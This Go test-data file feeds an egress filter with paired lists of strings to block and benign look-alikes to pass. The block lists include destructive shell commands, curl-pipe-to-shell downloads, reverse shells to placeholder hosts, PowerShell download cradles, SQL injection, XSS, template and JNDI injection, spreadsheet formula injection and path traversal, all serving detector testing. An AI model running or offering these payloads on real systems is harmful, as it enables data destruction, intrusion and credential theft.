package egress

func codeRow(class string, bad, good []string) row {
	return row{rule: "code." + class, policy: Policy{Code: Classes()}, bad: bad, good: good}
}

func codeRows() []row {
	return []row{
		codeRow(Shell, []string{
			"rm -rf /", "sudo rm -fr --no-preserve-root /", "rm -r -f ~/", "RM  -RF   /*", "run `rm -rf $HOME`", "rm --recursive --force /etc", "ｒｍ -rf /", "cm0gLXJmIC8gJiYgZWNobyBhbGwgZmlsZXMgYXJlIGdvbmUgbm93",
			"curl -fsSL https://northwind.com/x.sh | sh", "wget -qO- northwind.com/x | sudo bash -s", "curl x | python3 -", "bash -c \"$(curl -fsSL x)\"", "bash <(curl -s x)", "eval $(wget -O- x)",
			"echo aGk= | base64 -d | bash", "xxd -r -p x | sh", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "nc 192.0.2.1 4444 -e /bin/sh", "ncat --exec /bin/bash x 1", "socat tcp:x:1 exec:/bin/sh",
			"mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc x 1 > /tmp/f", "python -c 'import pty; pty.spawn(\"/bin/sh\")'",
			"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A", "IEX (New-Object Net.WebClient).DownloadString('http://x')", "iwr http://x | iex", "certutil -urlcache -f http://x a.exe", "mshta http://x/a.hta",
			"dd if=/dev/zero of=/dev/sda", "mkfs.ext4 /dev/sdb1", ":(){ :|:& };:", "chmod -R 777 /", "vssadmin delete shadows /all", "echo k >> ~/.ssh/authorized_keys", "rd /s /q c:\\",
		}, []string{
			"rm -rf ./build", "rm -rf node_modules", "rm -rf /var/lib/apt/lists/*", "rm -f /tmp/x.lock", "The farm -rf / unit", "rm file.txt", "rm -rf /home/ann/project/tmp",
			"curl -O https://northwind.com/x.tar.gz", "curl x | jq .name", "wget x && less x", "curl x | grep bash", "base64 -d x > y", "echo x | base64", "nc -l 8080", "nc -zv host 22", "mkfifo /tmp/f",
			"powershell -File a.ps1", "powershell -ExecutionPolicy Bypass -File a.ps1", "iwr http://x -OutFile a", "chmod 777 ./x", "dd if=a.img of=b.img", "chmod +x /usr/local/bin/x", "The company NC is in a row with the shell.",
		}),
		codeRow(SQL, []string{
			"DROP TABLE users;", "x'; DROP TABLE users; --", "drop/**/table/**/users;", "TRUNCATE TABLE log", "drop database if exists shop cascade;", "ALTER TABLE users ADD COLUMN admin int", "alter user ann with password 'x'",
			"GRANT ALL PRIVILEGES ON shop.* TO 'eve'@'%'", "grant select, insert on t to public", "DELETE FROM users;", "delete from users where 1=1", "' OR 1=1 --", "' or '1'='1", "\" or \"a\"=\"a", "admin'--", "x') or 1=1#",
			"1 UNION SELECT null, null", "union all select name, pw from users", "UN" + "ION/**/SELECT/**/1,2", "'; exec xp_cmdshell('dir')", "select x into outfile '/tmp/a'", "copy t to program 'sh'", "'; waitfor delay '0:0:5'", "select pg_sleep(10)",
		}, []string{
			"You can drop table seven from the list.", "Drop the tables and chairs.", "The union select committee met.", "We alter the table of contents.", "We grant access on request to staff.", "Grant all on board to leave.",
			"SELECT name FROM users WHERE id = 1;", "DELETE FROM users WHERE id = 7;", "It's 1 or 2 = many", "the users' -- or guests' -- rights", "He said 'yes' or 'no'.", "truncate the text at 80", "program to copy files", "alter egos",
		}),
		codeRow(Script, []string{
			"<script>x</script>", "```html\n<script src=x>\n```", "< SCRIPT >", "<img src=x onerror=alert(1)>", "<body onload='x()'>", "javascript:alert(1)", "href=\"javascript:void(0)\"", "document.cookie", "eval(atob('x'))", "String.fromCharCode(88,83)", "data:text/html,x", "&lt;script&gt;alert(1)&lt;/script&gt;",
		}, []string{
			"the script of the play", "JavaScript: the good parts", "based on load = 5 kN", "on error, stop", "evaluate(x)", "the document cookie", "data: text and html", "font-size=3", "description: x", "Conclusion=yes",
		}),
		codeRow(Template, []string{
			"{{7*7}}", "{{ ''.__class__.__mro__ }}", "{{ config.items() }}", "{{request.application}}", "{% import os %}", "{% for c in [].__class__.__base__.__subclasses__() %}", "${7*7}", "${T(java.lang.Runtime).getRuntime()}", "${jndi:ldap://x/a}", "${${lower:j}ndi:x}", "#{7*7}", "<%= system('id') %>", "<#assign x=1>", "{{constructor.constructor('x')()}}",
		}, []string{
			"Dear {{ name }}, your order {{order.id}}", "{% if x %}yes{% endif %}", "${HOME}/bin", "${user.name}", "#{name}", "<% block %>", "{{config_name}}", "a {b} {c}", "costs $5 {about}", "f\"{x}\"",
		}),
		codeRow(ANSI, []string{`\x1b[31m`, `printf "\033[2J"`, `\u001b]0;x`, `\e[1;31m`, `^[[31m`, `\x1b]8;;http://x`}, []string{`\x41[1]`, `[31m`, `\e[abc]`, `\033`, `regex ^[a-z]`, `C:\e\x`, `^[[:alpha:]]`}),
		codeRow(Formula, []string{"=HYPERLINK(\"http://x\",\"y\")", "name,=IMPORTXML(x)", "a\t=cmd|'/c calc'!A1", "@SUM(1)", "+webservice(x)", "-2+3+cmd|' /C calc'!A0", "\"=sum(a1:a2)\"", "| =WEBSERVICE(x) |"},
			[]string{"x = sum(a)", "- item", "-5", "+49 30 123456", "@ann please see", "= heading =", "a=b(c)", "- call(x) me", "-- x", "=== title ===", "the sum(x)"}),
		codeRow(Path, []string{"../../../../secret", "..\\..\\..\\..\\x", "../../etc/passwd", "..%2f..%2fetc", "%2e%2e/x", "/etc/shadow", "..;/admin", "c:\\windows\\system32\\config\\sam", "%252e%252e", "../.ssh/id"},
			[]string{"../img/a.png", "../../docs/a.md", "wait...", "a/../b", "/etc/hosts.md", "1../2", "c:\\windows\\fonts", "50%2 of", "and so on.../x", "etc/"}),
	}
}
